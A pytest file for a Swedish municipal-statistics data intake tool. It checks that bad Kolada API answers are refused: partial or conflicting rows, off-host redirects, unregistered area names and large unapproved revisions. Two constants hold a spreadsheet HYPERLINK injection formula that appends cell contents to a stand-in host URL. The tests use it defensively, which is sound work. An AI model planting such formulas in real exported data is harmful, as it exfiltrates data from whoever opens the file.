"""`trygghet kolada` under faults (issue 19, class 7 and Kolada's area names in class 1),
against the local fake Kolada server of test_kolada_api: a partial answer removes nothing
in any file, an answer with rows nobody asked for, conflicting rows, a redirect elsewhere
or an area name that is not the municipality register's is refused, and a large revision
is only written when the user accepts it."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.helpers import write_files
from tests.unit import test_kolada_api
from tests.unit.test_kolada_api import (
    DATA_PATH,
    MUNICIPALITIES,
    NATIONAL_PATH,
    PAGE_1,
    POPULATION_PATH,
    Redirect,
    Server,
    client,
    item,
    keys,
    read,
)
from trygghet import cli
from trygghet.data.validate import validate_data_dir
from trygghet.intake import kolada_api
from trygghet.intake.kolada_api import KoladaApiError, fetch_to_files

# The fake Kolada server and the small project of test_kolada_api.
server = test_kolada_api.server
data_dir = test_kolada_api.data_dir

POPULATION_CSV = """\
year,series,area_code,area_name,sex,value,source,retrieved
2021,N01951,1980,Västerås,T,155000.0,Kolada,2025-03-21
2022,N01951,0000,Riket,T,10500000.0,Kolada,2025-03-21
2022,N01951,1980,Västerås,T,157000.0,Kolada,2025-03-21
"""
NATIONAL_CSV = """\
year,area_code,area_name,value
2021,0381,Enköping,80.0
2022,0381,Enköping,81.0
2022,1980,Västerås,78.0
"""


@pytest.fixture
def stored(data_dir: Path) -> Path:
    """The project with a population and every municipality's values already stored."""
    write_files(data_dir, {"befolkning.csv": POPULATION_CSV,
                           "kommuner/valdeltagande.csv": NATIONAL_CSV})
    return data_dir


def run(data_dir: Path, server: Server, monkeypatch, *flags: str) -> int:
    monkeypatch.setenv("KOLADA_API_URL", server.url)
    return cli.main(["--root", str(data_dir.parent), "kolada", "--year", "2022", *flags])


def national(data_dir: Path) -> dict[tuple, float]:
    return {(r.year, r.area_code): r.value
            for r in read(data_dir / "kommuner" / "valdeltagande.csv").itertuples()}


def population(data_dir: Path) -> dict[tuple, float]:
    return {(r.area_code, r.year): r.value for r in read(data_dir / "befolkning.csv").itertuples()}


def snapshot(data_dir: Path) -> dict[str, bytes]:
    return {str(p.relative_to(data_dir)): p.read_bytes()
            for p in sorted(data_dir.rglob("*")) if p.is_file()}


# -- one municipality's value removes no other (the first example) ------------------


def test_one_municipalitys_answer_keeps_every_other_municipalitys_values(
        server, stored, monkeypatch, capsys):
    server.route(DATA_PATH, PAGE_1)
    server.route(NATIONAL_PATH, {"values": [item("N05401", "1980", 2022, ("T", 79.0, ""))]})
    server.route(POPULATION_PATH, {"values": [item("N01951", "1980", 2022, ("T", 158000.0, ""))]})
    assert run(stored, server, monkeypatch) == 0
    assert national(stored) == {(2021, "0381"): 80.0,
                                (2022, "0381"): 81.0,  # not in the answer: kept
                                (2022, "1980"): 79.0}  # replaced
    assert population(stored) == {("1980", 2021): 155000.0,
                                  ("0000", 2022): 10500000.0,  # not in the answer: kept
                                  ("1980", 2022): 158000.0}
    out = capsys.readouterr().out
    table = [line.split() for line in out.splitlines() if line.startswith("N0")]
    # added, changed, unchanged, missing: for the national file and the population too
    assert ["N05401", "alla", "kommuner", "(kommuner/valdeltagande.csv)",
            "0", "1", "0", "1"] in table
    assert ["N01951", "Västerås", "(1980)", "0", "1", "0", "0"] in table
    assert ["N01951", "Riket", "(0000)", "0", "0", "0", "1"] in table
    assert "finns inte i Koladas svar och behölls" in out


def test_remove_missing_is_the_only_way_to_remove_values_of_other_municipalities(
        server, stored, monkeypatch, capsys):
    server.route(DATA_PATH, PAGE_1)
    server.route(NATIONAL_PATH, {"values": [item("N05401", "1980", 2022, ("T", 79.0, ""))]})
    server.route(POPULATION_PATH, {"values": [item("N01951", "1980", 2022, ("T", 158000.0, ""))]})
    assert run(stored, server, monkeypatch, "--ta-bort-saknade") == 0
    assert national(stored) == {(2021, "0381"): 80.0, (2022, "1980"): 79.0}
    assert population(stored) == {("1980", 2021): 155000.0, ("1980", 2022): 158000.0}
    assert "togs bort (--remove-missing)" in capsys.readouterr().out


# -- rows nobody asked for, and conflicting rows ------------------------------------------------


def test_a_row_of_another_kpi_in_the_population_answer_is_refused(server, stored, monkeypatch,
                                                                   capsys):
    before = snapshot(stored)
    server.route(DATA_PATH, PAGE_1)
    server.route(POPULATION_PATH, {"values": [
        item("N01951", "1980", 2022, ("T", 158000.0, "")),
        item("N07403", "0000", 2022, ("T", 1234.5, ""))]})  # a crime rate, not the population
    assert run(stored, server, monkeypatch) == 1
    err = capsys.readouterr().err
    assert "nyckeltalet N07403 (område 0000, år 2022), som inte efterfrågades" in err
    assert "frågan gällde N01951" in err and "Inget har skrivits" in err
    assert snapshot(stored) == before


def test_a_row_of_an_area_not_asked_for_is_refused(server, data_dir):
    server.route(DATA_PATH, {"values": [*PAGE_1["values"],
                                        item("N05401", "0180", 2022, ("T", 70.0, ""))]})
    with pytest.raises(KoladaApiError, match="området 0180 .*som inte efterfrågades"):
        fetch_to_files(data_dir, [2022], client(server))


def test_conflicting_duplicate_rows_are_refused_and_equal_ones_are_one_row(
        server, stored, monkeypatch, capsys):
    before = snapshot(stored)
    server.route(DATA_PATH, {"values": [*PAGE_1["values"],
                                        item("N05401", "1980", 2022, ("T", 12.5, ""))]})
    assert run(stored, server, monkeypatch) == 1
    err = capsys.readouterr().err
    assert "olika värden för samma nyckeltal, område, år och kön" in err
    assert "nyckeltal N05401, område 1980, år 2022, kön T: 79 och 12,5" in err
    assert snapshot(stored) == before
    # The same row twice with the same value is no conflict.
    server.route(DATA_PATH, {"values": [*PAGE_1["values"],
                                        item("N05401", "1980", 2022, ("T", 79.0, ""))]})
    assert run(stored, server, monkeypatch) == 0
    assert keys(stored / "indicators" / "valdeltagande.csv")[
        (2022, "N05401", "1980", "T")] == 79.0


# -- paging and redirects ----------------------------------------------------------------------


def test_too_many_different_pages_say_so_not_that_a_page_came_again(server, data_dir,
                                                                    monkeypatch):
    monkeypatch.setattr(kolada_api, "MAX_PAGES", 3)
    server.route(DATA_PATH, *[{"values": [], "next_url": f"{server.url}{DATA_PATH}?page={n}"}
                              for n in range(2, 6)])
    with pytest.raises(KoladaApiError) as err:
        fetch_to_files(data_dir, [2022], client(server))
    assert "fler än 3 sidor för samma fråga" in str(err.value)
    assert "samma sida igen" not in str(err.value)
    assert f"{DATA_PATH}?page=4" in str(err.value)


def test_a_server_error_says_status_address_and_tries(server, data_dir):
    server.route(DATA_PATH, (500, {"error": "boom"}, 0))
    with pytest.raises(KoladaApiError) as err:
        fetch_to_files(data_dir, [2022], client(server, attempts=2))
    message = str(err.value)
    assert "efter 2 försök" in message and "HTTP-status 500" in message
    assert f"{server.url}{DATA_PATH}" in message


def test_a_redirect_to_another_host_is_refused_before_it_is_followed(server, data_dir):
    elsewhere = Server()
    try:
        elsewhere.route(DATA_PATH, PAGE_1)
        target = f"{elsewhere.url}{DATA_PATH}?per_page=5000"
        server.route(DATA_PATH, (302, Redirect(target), 0))
        before = (data_dir / "indicators" / "valdeltagande.csv").read_bytes()
        with pytest.raises(KoladaApiError) as err:
            fetch_to_files(data_dir, [2022], client(server))
        message = str(err.value)
        assert "hänvisade med HTTP-status 302" in message and target in message
        assert "utanför API:ts värd" in message
        assert elsewhere.requests == []  # never asked
        assert (data_dir / "indicators" / "valdeltagande.csv").read_bytes() == before
    finally:
        elsewhere.close()


def test_a_redirect_on_the_apis_own_host_is_followed(server, data_dir):
    server.route(DATA_PATH, (301, Redirect(f"/v3/{DATA_PATH}/?per_page=5000"), 0))
    server.route(f"{DATA_PATH}/", PAGE_1)
    fetch_to_files(data_dir, [2022], client(server))
    assert keys(data_dir / "indicators" / "valdeltagande.csv")[
        (2022, "N05401", "1980", "T")] == 79.0


def test_a_next_page_on_another_host_is_refused(server, data_dir):
    server.route(DATA_PATH, {**PAGE_1, "next_url": f"http://127.0.0.2:1/v3/{DATA_PATH}?page=2"})
    with pytest.raises(KoladaApiError, match="nästa sida på en annan värd"):
        fetch_to_files(data_dir, [2022], client(server))


# -- area names must be the municipality register's (class 1) ----------------------------------

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Klicka här")'


@pytest.mark.parametrize("code", ["1980", "0381", "0000"])
def test_an_area_name_that_is_not_the_registers_is_never_stored(server, stored, monkeypatch,
                                                                capsys, code):
    before = snapshot(stored)
    server.route("municipality", {"values": [
        {**area, "title": FORMULA} if area["id"] == code else area
        for area in MUNICIPALITIES["values"]]})
    server.route(DATA_PATH, PAGE_1)
    assert run(stored, server, monkeypatch) == 1
    err = capsys.readouterr().err
    register_name = {"1980": "Västerås", "0381": "Enköping", "0000": "Riket"}[code]
    assert "stämmer inte med kommunregistret" in err
    assert f"område {code} heter '{register_name}' i kommunregistret" in err
    assert "HYPERLINK" in err and "Inget har skrivits" in err
    assert snapshot(stored) == before


def test_a_municipality_unknown_to_the_register_is_never_stored(server, stored, monkeypatch,
                                                                capsys):
    server.route("municipality", {"values": [
        *MUNICIPALITIES["values"], {"id": "9999", "title": "Påhittad", "type": "K"}]})
    server.route(DATA_PATH, PAGE_1)
    assert run(stored, server, monkeypatch) == 1
    assert "områdeskoden 9999 (med namnet 'Påhittad') finns inte i kommunregistret" in \
        capsys.readouterr().err


# -- large revisions are asked about -----------------------------------------------------------

DROP = {"values": [item("N01951", "1980", 2022, ("T", 1570.0, ""))]}  # 157 000 → 1 570


def test_a_99_percent_drop_in_population_is_refused_without_the_flag(server, stored,
                                                                     monkeypatch, capsys):
    before = snapshot(stored)
    server.route(DATA_PATH, PAGE_1)
    server.route(POPULATION_PATH, DROP)
    monkeypatch.setattr("sys.stdin.isatty", lambda: False)
    assert run(stored, server, monkeypatch) == 1
    err = capsys.readouterr().err
    assert "ändrar 1 redan sparade värden mer än gränsen (befolkningen mer än 5 %" in err
    assert "befolkning.csv: Västerås (1980), år 2022: gammalt 157 000, nytt 1 570 (−99 %)" in err
    assert "--godta-revisioner" in err and "Inget har skrivits" in err
    assert snapshot(stored) == before

    assert run(stored, server, monkeypatch, "--godta-revisioner") == 0
    assert population(stored)[("1980", 2022)] == 1570.0
    out = capsys.readouterr().out
    assert "(skrivs, --godta-revisioner)" in out  # the accepted revisions are still listed
    assert "befolkning.csv: Västerås (1980), år 2022: gammalt 157 000, nytt 1 570" in out


def test_a_small_population_revision_passes_and_a_large_value_revision_is_asked(
        server, stored, monkeypatch, capsys):
    server.route(DATA_PATH, PAGE_1)  # valdeltagande 78 → 79: 1 %
    server.route(POPULATION_PATH, {"values": [item("N01951", "1980", 2022, ("T", 160000.0, ""))]})
    server.route(NATIONAL_PATH, {"values": [item("N05401", "0381", 2022, ("T", 18.0, ""))]})
    monkeypatch.setattr("sys.stdin.isatty", lambda: True)
    answers = iter(["nej", "ja"])
    monkeypatch.setattr("builtins.input", lambda prompt: next(answers))
    before = snapshot(stored)
    assert run(stored, server, monkeypatch) == 1  # asked, and answered no
    out = capsys.readouterr().out
    assert "kommuner/valdeltagande.csv: Enköping (0381), år 2022: gammalt 81, nytt 18 (−78 %)" \
        in out
    assert "befolkning.csv" not in out  # 157 000 → 160 000 is within 5 %
    assert snapshot(stored) == before
    assert run(stored, server, monkeypatch) == 0  # asked, and answered yes
    assert national(stored)[(2022, "0381")] == 18.0
    assert population(stored)[("1980", 2022)] == 160000.0


# -- the stored files: validate says the same (one rule, one place) ----------------------------

QUOTED_FORMULA = '"=HYPERLINK(""http://example.invalid/"",""Klicka här"")"'


@pytest.mark.parametrize(("file", "row", "old"), [
    ("kommuner/anmalda-brott.csv", 2, "2018,0114,Upplands Väsby,"),
    ("befolkning.csv", 2, "1994,N01951,0000,Riket,"),
])
def test_validate_refuses_a_stored_kolada_name_that_is_not_the_registers(data_copy, file, row,
                                                                         old):
    path = data_copy / file
    text = path.read_text(encoding="utf-8")
    assert text.splitlines()[row - 1].startswith(old)
    code = old.split(",")[-3]
    path.write_text(text.replace(old, old.replace(old.split(",")[-2], QUOTED_FORMULA), 1),
                    encoding="utf-8")
    messages = [str(p) for p in validate_data_dir(data_copy)]
    assert any(f"{file}, rad {row}, kolumn/fält 'area_name'" in m and f"område {code} heter" in m
               and "=HYPERLINK(" in m for m in messages), messages


def test_validate_accepts_the_citys_own_names_beside_kolada_rows(data_copy):
    path = data_copy / "indicators" / "anmalda-valdsbrott.csv"
    path.write_text(path.read_text(encoding="utf-8")
                    + "2023,N07403,1980,Västerås stad,T,900.0,Polisen,2024-02-01\n",
                    encoding="utf-8")
    assert not [p for p in validate_data_dir(data_copy) if "anmalda-valdsbrott" in str(p)]
